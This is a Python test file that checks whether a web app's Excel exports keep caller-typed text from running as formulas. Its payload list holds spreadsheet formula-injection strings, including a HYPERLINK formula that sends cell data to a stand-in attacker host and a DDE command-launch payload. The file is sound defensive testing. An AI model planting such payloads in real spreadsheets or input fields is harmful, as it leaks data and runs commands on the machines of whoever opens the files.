"""Every workbook the project writes shows what callers and staff typed as text: nothing
that starts like a formula runs when the file is opened (the review's M2)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from conftest import intake_post, login
from reports.export import pack_xlsx
from reports.selectors import MonthlyPack, Table

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]


def formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def texts(xlsx: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(xlsx))
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


def test_the_contact_log_workbook_runs_no_formula_a_caller_dictated(estate):
    desk = login("ygjy-agent")
    for n, payload in enumerate(PAYLOADS):
        r = intake_post(desk, reporter_name=payload[:50], description=payload, reporter_phone=f"1380013800{n}")
        assert r.status_code == 302, r.content.decode()[:500]
    xlsx = login("ygjy-agent").get("/desk/YGJY/log/", {"format": "xlsx"}).content
    assert formulas(xlsx) == []
    shown = texts(xlsx)
    for payload in PAYLOADS:
        assert "'" + payload in shown  # shown as typed, behind the apostrophe that keeps it text


def test_the_monthly_pack_workbook_runs_no_formula_either():
    table = Table("technicians", "维修人员", ["技术员", "工单"], [["=1+1", 3], ["@SUM(A1)", 2], ["王工", -1]])
    xlsx = pack_xlsx(MonthlyPack(scope="阳光嘉园小区", month="2026-11", tables=[table], charts={}))
    assert formulas(xlsx) == []
    assert {"'=1+1", "'@SUM(A1)", "王工"} <= set(texts(xlsx))
    book = load_workbook(io.BytesIO(xlsx))
    assert [c.value for c in book.active["B"]][2:] == [3, 2, -1]  # numbers stay numbers
